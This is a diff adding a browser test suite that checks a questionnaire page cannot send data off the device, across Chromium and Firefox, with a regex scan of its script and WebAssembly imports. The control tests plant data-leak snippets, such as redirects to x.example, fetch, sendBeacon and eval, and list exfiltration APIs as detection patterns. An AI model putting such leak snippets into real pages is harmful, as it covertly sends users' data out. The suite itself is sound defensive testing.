@@ -1,0 +1,194 @@
+// That nothing leaves the page: every channel is tried against an open policy, which must leak, and the page as built,
+// which must not; what no policy stops is looked for in the shipped code. It does not test what the page computes.
+import assert from "node:assert/strict";
+import { access } from "node:fs/promises";
+import { after, before, test } from "node:test";
+import { inflateRawSync } from "node:zlib";
+import puppeteer from "puppeteer-core";
+import { tryAll } from "./channels.mjs";
+import { collect } from "./collector.mjs";
+import { launch, pageText } from "./driver.mjs";
+
+const FIREFOX = process.env.FIREFOX ?? "/usr/bin/firefox-esr";
+/** What Firefox, or this way of asking it, does not send even where everything is allowed: that proves nothing there. */
+const FIREFOX_KEEPS = [
+  "audio", "font", "font-rule", "form-get", "iframe-blob", "iframe-srcdoc", "import", "link-prefetch", "ping", "speculation", "video", "video-poster", "worklet",
+];
+const BROWSERS = [
+  { name: "Chromium", start: launch, keeps: [] },
+  { name: "Firefox", start: startFirefox, keeps: FIREFOX_KEEPS },
+];
+/** A page that has sent nothing by then, and in the time that the open page took, sends nothing. */
+const PATIENCE_MS = 1500;
+const MOST_MS = 15_000;
+
+const pause = (time) => new Promise((resolve) => setTimeout(resolve, time));
+const real = await pageText("oita");
+const unguarded = real.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "");
+
+async function startFirefox() {
+  await access(FIREFOX).catch(() => assert.fail(`Firefox is missing at ${FIREFOX}. Install it (on Debian, \`apt-get install firefox-esr\`), or set FIREFOX to its path.`));
+  return puppeteer.launch({ browser: "firefox", executablePath: FIREFOX });
+}
+
+/** Serves one text as the page, opens it, and hands both over. */
+async function visit(browser, body, steps) {
+  const server = await collect((path) => (path === "/page" ? { body } : null));
+  const page = await browser.newPage();
+  try {
+    await page.evaluateOnNewDocument(() => {
+      globalThis.reports = [];
+      document.addEventListener("iju:report", (event) => globalThis.reports.push(event.detail));
+      globalThis.print = () => window.dispatchEvent(new Event("beforeprint")); // what the printer would wait for
+    });
+    await page.goto(`${server.own}/page`, { waitUntil: "load" });
+    await page.waitForFunction(() => globalThis.reports.length > 0);
+    await steps(page, server);
+  } finally {
+    await page.close();
+    await server.close();
+  }
+}
+
+/** One question after another, some answered and some not known, to the result, the sheet, and a link. */
+async function session(page) {
+  const click = (selector) => page.$eval(selector, (one) => one.click());
+  await click("[data-js-screen=question]");
+  for (let asked = 0; (await page.evaluate(() => document.body.dataset.screen)) === "question"; asked += 1) {
+    assert.ok(asked < 100, "the questions come to an end");
+    await page.evaluate((unknown) => {
+      const question = document.querySelector("[data-current]");
+      const option = question.querySelector(unknown ? "input[value=unknown], input[name$='.unknown']" : "input[type=radio]") ?? question.querySelector("input[type=radio], input[type=checkbox]");
+      option.click();
+      const more = question.querySelector("input[name$='.more'][value=none]");
+      more?.click();
+    }, asked % 2 === 1);
+    await page.waitForFunction(() => document.querySelector("[data-current] input:checked"));
+    await page.evaluate(() => document.querySelector("#questions").requestSubmit());
+  }
+  assert.equal(await page.evaluate(() => document.body.dataset.screen), "check");
+  await click("[data-js-screen=result]");
+  await page.waitForFunction(() => !("thinking" in document.body.dataset));
+  for (const control of ["[data-js-print]", "[data-js-share] summary", "[data-js-make-link]", "[data-js-copy]"]) await click(control);
+  assert.match(await page.$eval("[data-js-address]", (one) => one.textContent), /#v1\./);
+}
+
+for (const { name, start, keeps } of BROWSERS) {
+  let browser;
+  let took = 0;
+  before(async () => { browser = await start(); });
+  after(() => browser?.close());
+
+  test(`${name}: control: where everything is allowed, every channel leaks`, async () => {
+    await visit(browser, unguarded, async (page, { hits, other }) => {
+      const began = Date.now();
+      const wanted = Object.keys(await page.evaluate(tryAll, other)).filter((channel) => !keeps.includes(channel));
+      assert.ok(wanted.length >= 33, `${wanted.length} channels`);
+      const missing = () => wanted.filter((channel) => !hits.has(channel));
+      while (missing().length > 0 && Date.now() - began < MOST_MS) await pause(20);
+      assert.deepEqual(missing(), [], "these did not leak, so they prove nothing");
+      took = Date.now() - began;
+    });
+  });
+
+  test(`${name}: the page as built leaks through no channel`, async () => {
+    await visit(browser, real, async (page, { hits, other }) => {
+      await page.evaluate(tryAll, other);
+      await pause(Math.max(PATIENCE_MS, 1.2 * took));
+      assert.deepEqual([...hits], []);
+    });
+  });
+
+  test(`${name}: a whole session, to print and link, works without a network, asks for nothing and keeps nothing`, async () => {
+    await visit(browser, real, async (page, server) => {
+      const requests = [];
+      // Firefox lists the marks of its own controls, which lie in it as data and ask nobody.
+      page.on("request", (request) => request.url().startsWith("data:") || requests.push(request.url()));
+      await server.close();
+      if (name === "Chromium") await page.setOfflineMode(true);
+      const before = server.asked.length;
+      await session(page);
+      assert.deepEqual(requests, []);
+      assert.equal(server.asked.length, before);
+      const kept = await page.evaluate(async () => [
+        document.cookie, localStorage.length, sessionStorage.length, (await indexedDB.databases()).length,
+        (await caches.keys()).length, (await navigator.serviceWorker.getRegistrations()).length,
+      ]);
+      assert.deepEqual(kept, ["", 0, 0, 0, 0, 0]);
+    });
+  });
+}
+
+/** What the script may do of the things that are looked for, and how often: a use more or less is a change to look at. */
+const ALLOWED = [
+  [/\.location\.hash===/g, 1], // is everything to be shown at once?
+  [/\{(?:\w+:\w+,?)+\}=this\.#\w+\.location(?=[,;])/g, 3], // the page's own address is read: for a link, on arrival, to clean it
+  [/\bwindow\.parent\.postMessage\(\{type:"iju-check",\.\.\.\w+\},"\*"\)/g, 1], // a page around this one is told of a height or a new screen
+  [/\bnavigator\.clipboard\.writeText\(/g, 1], // the link is copied when asked for
+  [/\bsetAttribute\("href",/g, 1], // answers are carried to the page's other languages, in the fragment
+];
+
+/** Whatever sends, navigates, opens, or reaches a name that could not be read here. */
+const FORBIDDEN = [
+  /\b(?:fetch|fetchLater|XMLHttpRequest|sendBeacon|WebSocket\w*|WebTransport|EventSource|\w*RTC[A-Z]\w*)\b/g,
+  /\b(?:Shared)?Worker\b|\bserviceWorker\b|\bimportScripts\b|\bimport\b|\bWorklet\b|\baddModule\b/g,
+  /\blocation\b|\bnavigat\w*\b|\bnavigation\b|\bpostMessage\b|\bMessageChannel\b|\bBroadcastChannel\b/g,
+  /\bwindow\s*\.\s*open\b|(?<![\w.$"])open\s*\(|\bdocument\s*\.\s*(?:open|write|writeln|domain|cookie)\b/g,
+  /\bhttp-?equiv\b|\brefresh["'`]|\binnerHTML\b|\bouterHTML\b|\binsertAdjacentHTML\b|\bsetHTML\w*\b|\bsrc(?:doc|set)?\b|\bping\b/gi,
+  /\.href\s*=(?!=|\s*`#)|\bsetAttribute\("href"|\bformAction\b|\baction\b|\.(?:request)?[sS]ubmit\s*\(/g,
+  /\beval\s*\(|\bFunction\b|\.constructor\b|\["constructor"\]/g,
+  /\b(?:window|globalThis|self|document|navigator|history|top|parent|frames)\s*(?:\?\.)?\[/g,
+  /\}\s*=\s*(?:window|globalThis|self|document|navigator|history)\b/g,
+  /\b(?:local|session)Storage\b|\bindexedDB\b|\bcaches\b|\bcookie\w*\b/g,
+];
+
+/** Everything in a script that could send something off, with what stands around it. */
+function suspects(script) {
+  let rest = script;
+  const found = [];
+  for (const [pattern, times] of ALLOWED) {
+    const seen = rest.match(pattern)?.length ?? 0;
+    if (seen !== times) found.push(`${pattern}: ${seen} times, not ${times}`);
+    rest = rest.replace(pattern, " ");
+  }
+  for (const pattern of FORBIDDEN) {
+    for (const { 0: what, index } of rest.matchAll(pattern)) found.push(`${what} in …${rest.slice(Math.max(0, index - 30), index + 40)}…`);
+  }
+  return found;
+}
+
+const scriptOf = (text) => /<script>([\s\S]*?)<\/script>/.exec(text)[1];
+
+test("nothing in the script can do what no policy stops: navigate, open a window, refresh, or call another computer", () => {
+  assert.deepEqual(suspects(scriptOf(real)), []);
+});
+
+test("control: a planted leak of any kind is found in the script", () => {
+  const script = scriptOf(real);
+  const planted = [
+    "location='https:/'+'/x.example?'+a", "window.location.assign(a)", "document.location.href=a", "top.location=a", "self.open(a)".replace("self", "window"),
+    "open(a)", "const{open:o}=window;o(a)", "window[b](a)", "globalThis?.[b](a)", "e.href=a;e.click()", "e.href=`//x?${a}`", 'e.setAttribute("href",a)',
+    'm.httpEquiv="refresh"', 'm.setAttribute("http-equiv",b)', "new RTCPeerConnection({iceServers:[a]})", "new webkitRTCPeerConnection(a)",
+    "fetch(a)", "new XMLHttpRequest", "navigator.sendBeacon(a)", "new WebSocket(a)", "new EventSource(a)", "import(a)", "new Worker(a)", "navigation.navigate(a)",
+    "parent.postMessage(a,'*')", "f.submit()", "(0,eval)(a);eval(a)", "new Function(a)", "[].constructor.constructor(a)", "e.innerHTML=a", "new Image().src=a", "localStorage.a=b",
+    "document.cookie=a", "new BroadcastChannel(a)",
+  ];
+  for (const leak of planted) assert.notDeepEqual(suspects(`${script};${leak};`), [], leak);
+});
+
+test("the module takes in nothing that could reach beyond the page", async () => {
+  const [, engine] = /<script type="application\/octet-stream" id="engine">([^<]*)</.exec(real);
+  const module = await WebAssembly.compile(inflateRawSync(Buffer.from(engine, "base64")));
+  const taken = WebAssembly.Module.imports(module).map(({ name, kind }) => `${kind} ${name.replace(/_[0-9a-f]{16}$/, "").replace("__wbg_", "")}`);
+  assert.deepEqual([...new Set(taken)].sort(), [
+    "function Error", "function String", "function __wbindgen_generic", "function __wbindgen_init_externref_table", "function __wbindgen_throw",
+    "function customSections", "function get", "function length", "function new", "function new_from_slice", "function of", "function prototypesetcall", "function set",
+  ].sort());
+});
+
+test("the markup around the script starts nothing either", () => {
+  const markup = real.replace(/<(style|script)[\s\S]*?<\/\1>/g, "");
+  assert.equal(markup.match(/http-equiv/gi).length, 1, "the policy, and no refresh");
+  assert.doesNotMatch(markup, /<(base|link|img|iframe|object|embed|video|audio|source|portal)\b/i);
+  assert.doesNotMatch(markup, /\s(?:ping|srcset|src|action|formaction|background|poster)=/i);
+});
